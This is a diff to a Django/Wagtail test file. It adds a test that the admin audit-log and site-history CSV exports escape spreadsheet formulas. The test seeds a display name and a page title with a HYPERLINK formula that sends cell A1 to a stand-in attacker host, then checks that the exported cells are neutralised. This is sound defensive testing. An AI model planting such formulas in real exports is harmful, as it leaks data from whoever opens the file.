@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Callable
 
 import pytest
 from django.db import DatabaseError, connection, transaction
 from django.test import Client
+from wagtail.log_actions import log
+from wagtail.models import Page
 
 from accounts.audit import AuditEntry, record
 from accounts.people import User
@@ -84,3 +88,26 @@ def test_trainers_do_not(
     client = signed_in(trainer)
     assert client.get("/admin/reports/audit-log/").status_code == 302
     assert "Audit log" not in client.get("/admin/").content.decode()
+
+
+@pytest.mark.parametrize(
+    "address", ["/admin/reports/audit-log/?export=csv", "/admin/reports/site-history/?export=csv"]
+)
+def test_no_cell_of_a_report_is_a_formula(
+    adam: User, olga: User, signed_in: Callable[[User], Client], address: str
+) -> None:
+    formula = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Open")'
+    User.objects.filter(pk=olga.pk).update(display_name=formula)
+    olga.refresh_from_db()
+    record(olga, "greet", adam)
+    page = Page.objects.get(depth=1)
+    page.title = formula
+    log(page, "wagtail.edit", user=olga)
+    answer = signed_in(adam).get(address)
+    cells = [
+        cell
+        for row in csv.reader(io.StringIO(b"".join(answer.streaming_content).decode()))
+        for cell in row
+    ]
+    assert f"'{formula}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
